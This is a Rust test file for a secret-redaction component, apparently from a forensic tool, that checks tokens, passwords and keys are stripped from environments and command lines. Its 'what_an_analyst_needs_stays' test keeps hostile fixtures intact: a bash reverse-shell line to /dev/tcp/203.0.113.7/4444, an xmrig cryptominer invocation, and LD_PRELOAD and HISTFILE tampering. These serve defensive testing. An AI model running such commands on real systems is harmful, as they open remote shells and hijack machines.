//! Properties of redaction as a whole.

use super::{Environ, Redactor};
use proptest::prelude::*;

fn environ(mode: Environ, input: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    Redactor::new(mode, [7; 32]).environ(input, &mut out);
    out
}

fn cmdline(input: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    Redactor::new(Environ::Redacted, [7; 32]).cmdline(input, &mut out);
    out
}

fn nuls(bytes: &[u8]) -> usize {
    bytes.iter().filter(|byte| **byte == 0).count()
}

fn holds(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

/// Pieces of which awkward text is made.
fn awkward() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        Just("--password".to_owned()),
        Just("token=".to_owned()),
        Just("\"secret\":\"".to_owned()),
        Just("Authorization: Bearer ".to_owned()),
        Just("://u:".to_owned()),
        Just("@h/".to_owned()),
        Just("mysql".to_owned()),
        Just(" -p".to_owned()),
        Just("curl -u ".to_owned()),
        Just("<redacted len=3 hmac=0123456789abcdef>".to_owned()),
        Just("<redacted len=".to_owned()),
        Just("-----BEGIN RSA PRIVATE KEY-----".to_owned()),
        Just("-----END ".to_owned()),
        Just("AKIAIOSFODNN7EXAMPLE".to_owned()),
        Just("0123456789abcdef0123456789abcdef".to_owned()),
        "[a-zA-Z0-9]{1,50}",
        "[ \\x00=:;,'\"&/@%<>-]{1,2}",
    ];
    let any_bytes = prop::collection::vec(any::<u8>(), 0..8);
    let piece = prop_oneof![8 => piece.prop_map(String::into_bytes), 1 => any_bytes];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn doing_it_twice_changes_nothing(text in awkward()) {
        let once = cmdline(&text);
        prop_assert_eq!(nuls(&once), nuls(&text));
        let twice = cmdline(&once);
        prop_assert_eq!(String::from_utf8_lossy(&twice), String::from_utf8_lossy(&once), "{}", text.escape_ascii());
        for mode in [Environ::Redacted, Environ::Keys] {
            let once = environ(mode, &text);
            prop_assert_eq!(nuls(&once), nuls(&text));
            let twice = environ(mode, &once);
            prop_assert_eq!(String::from_utf8_lossy(&twice), String::from_utf8_lossy(&once));
        }
    }

    #[test]
    fn any_bytes_are_survived_and_full_keeps_them(bytes: Vec<u8>) {
        let _ = (environ(Environ::Redacted, &bytes), environ(Environ::Keys, &bytes), cmdline(&bytes));
        prop_assert_eq!(environ(Environ::Full, &bytes), bytes);
    }

    #[test]
    fn names_stay_and_secrets_go(
        // Short values may be numbers and switches; other signs may begin a path, an address or a reference.
        variables in prop::collection::vec(("[A-Z]{1,6}_(TOKEN|PASSWORD|API_KEY|SECRET)", "[a-zA-Z0-9!#%^&*()_+,;:?-][ -.0-~]{9,60}"), 1..6),
    ) {
        let text: Vec<u8> = variables.iter().flat_map(|(n, v)| format!("{n}={v}\0").into_bytes()).collect();
        let out = environ(Environ::Redacted, &text);
        let strings: Vec<_> = out.split(|b| *b == 0).collect();
        prop_assert_eq!(strings.len(), variables.len() + 1);
        for ((name, value), string) in variables.iter().zip(strings) {
            let start = format!("{name}=<redacted len={} hmac=", value.len());
            prop_assert!(string.starts_with(start.as_bytes()), "{}", string.escape_ascii());
        }
    }

    #[test]
    fn no_part_of_a_secret_remains(
        secret in "[a-zA-Z!#^*+][a-zA-Z0-9!#$^*()+]{7,39}",
        frame in prop::sample::select(vec![
            ("X=postgres://app:", "@db/x"), ("OPTS=-Dpassword=", " -v"), ("H=Authorization: Bearer ", ""),
            ("A=--token ", " -v"), ("J={\"password\": \"", "\"}"), ("K=-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"),
            ("C=mysql -p", " db"), ("C=curl -u me:", " http://h"), ("Q=https://h/?access_token=", "&x=1"),
        ]),
    ) {
        let text = format!("{}{secret}{}\0", frame.0, frame.1);
        let (name, value) = text.split_once('=').unwrap();
        for out in [environ(Environ::Redacted, text.as_bytes()), cmdline(value.as_bytes())] {
            for part in secret.as_bytes().windows(8) {
                prop_assert!(!holds(&out, part), "{} in {}", secret, out.escape_ascii());
            }
            prop_assert!(holds(&out, b"<redacted len="));
        }
        let named = environ(Environ::Redacted, text.as_bytes()).starts_with(name.as_bytes());
        prop_assert!(named);
    }

    #[test]
    fn plain_settings_stay(variables in prop::collection::vec(("(APP|DB|LOG|MAX|KEYBOARD)_(DIR|MODE|LEVEL|HOST)", "[a-z/.]{0,30}"), 0..6)) {
        let text: Vec<u8> = variables.iter().flat_map(|(n, v)| format!("{n}={v}\0").into_bytes()).collect();
        prop_assert_eq!(environ(Environ::Redacted, &text), text);
    }
}

#[test]
fn what_an_analyst_needs_stays() {
    for text in [
        "PATH=/usr/local/sbin:/usr/bin\0LD_PRELOAD=/dev/shm/x.so\0HISTFILE=/dev/null\0",
        "HOSTNAME=ip-10-0-3-4.eu-west-1.compute.internal\0AWS_EXECUTION_ENV=AWS_ECS_FARGATE\0",
        "ECS_CONTAINER_METADATA_URI_V4=http://169.254.170.2/v4/8b1a9953c4611296a827abf8c47804d7-1234567890\0",
        "KUBERNETES_SERVICE_HOST=10.96.0.1\0SSH_CONNECTION=203.0.113.7 51234 10.0.3.4 22\0SSH_AUTH_SOCK=/tmp/ssh-a/agent.1\0",
        "IMAGE_DIGEST=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\0LS_COLORS=rs=0:di=01;34:ln=01;36\0",
        "SYSTEMD_INVOCATION_ID=0123456789abcdef0123456789abcdef\0_=/usr/bin/env\0",
    ] {
        assert_eq!(String::from_utf8(environ(Environ::Redacted, text.as_bytes())).unwrap(), text);
    }
    for text in [
        "/usr/bin/containerd-shim-runc-v2\0-namespace\0moby\0-id\x009f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\0",
        "xmrig\0-o\0stratum+tcp://pool.example:3333\0-u\0wallet\0-p\0x\0",
        "bash\0-c\0bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\0",
        "sshd: root@pts/0\0",
    ] {
        assert_eq!(String::from_utf8(cmdline(text.as_bytes())).unwrap(), text);
    }
}

#[test]
fn keys_keeps_names_only() {
    let out = environ(Environ::Keys, b"PATH=/bin\0EMPTY=\0TOKEN=abc\0some title\0\0");
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "PATH=<removed len=4>\0EMPTY=\0TOKEN=<removed len=3>\0<removed len=10>\0\0"
    );
}

#[test]
fn equal_secrets_match_across_names_and_places() {
    let out = environ(Environ::Redacted, b"A_TOKEN=hunter2\0URL=redis://:hunter2@h\0");
    let text = String::from_utf8(out).unwrap();
    let (first, rest) = text.split_once('>').unwrap();
    assert!(rest.contains(first.split_once('=').unwrap().1), "{text}");
}

/// Texts that are full of beginnings cost no more than in proportion to their length.
#[test]
fn hostile_texts_take_no_square() {
    for piece in [
        "a://",
        "a@",
        "password=",
        "password=[",
        "\"password\":{",
        "<a",
        "a>",
        "sk-",
        "'",
        "\"",
        "eyJ.",
        "a:\n password:\n",
        "wJalrXUtnFEMI07MDENGbPxRfiCYEXAMPLEKEY12 ",
        "-----BEGIN PRIVATE KEY-----",
        "name=",
        "echo a|",
        "\\\"",
    ] {
        let text = piece.repeat((1 << 16) / piece.len());
        let began = std::time::Instant::now();
        let _ = (cmdline(text.as_bytes()), environ(Environ::Redacted, format!("A={text}").as_bytes()));
        assert!(began.elapsed().as_secs() < 10, "{piece:?}: {:?}", began.elapsed());
    }
}

#[test]
fn paths_and_tables_lose_secrets_and_keep_their_columns() {
    let mut redactor = Redactor::new(Environ::Redacted, [7; 32]);
    for (text, escaped, secret) in [
        ("/run/app?token=hunter2", false, "hunter2"),
        ("BOOT_IMAGE=/vmlinuz root=/dev/vda1 luks.password=hunter2 quiet", false, "hunter2"),
        (
            "a 1\n36 25 0:31 / /m rw - cifs //h/s rw,username=u,password=hunter2,vers=3\nb 2\n",
            true,
            "hunter2",
        ),
    ] {
        let mut once = text.as_bytes().to_vec();
        redactor.path(&mut once, escaped);
        let plain = String::from_utf8(once.clone()).unwrap();
        let (before, behind) = text.split_once(secret).unwrap();
        assert!(plain.starts_with(before) && plain.ends_with(behind) && !plain.contains(secret), "{plain}");
        if escaped {
            let words = |text: &str| text.split_whitespace().count();
            assert_eq!(words(&plain), words(text), "{plain}");
        }
        if !escaped {
            redactor.path(&mut once, false);
            assert_eq!(String::from_utf8(once).unwrap(), plain);
        }
    }
    assert_eq!(redactor.counts()[0], 3);
    assert_eq!(redactor.counts(), [0; super::REASONS.len()]);
    for text in [
        "socket:[4711]",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "kworker/u8:2-events",
        "/a/9f86d081884c7d659a2feaa0c55ad015",
    ] {
        let mut same = text.as_bytes().to_vec();
        redactor.path(&mut same, false);
        assert_eq!(same, text.as_bytes());
    }
}
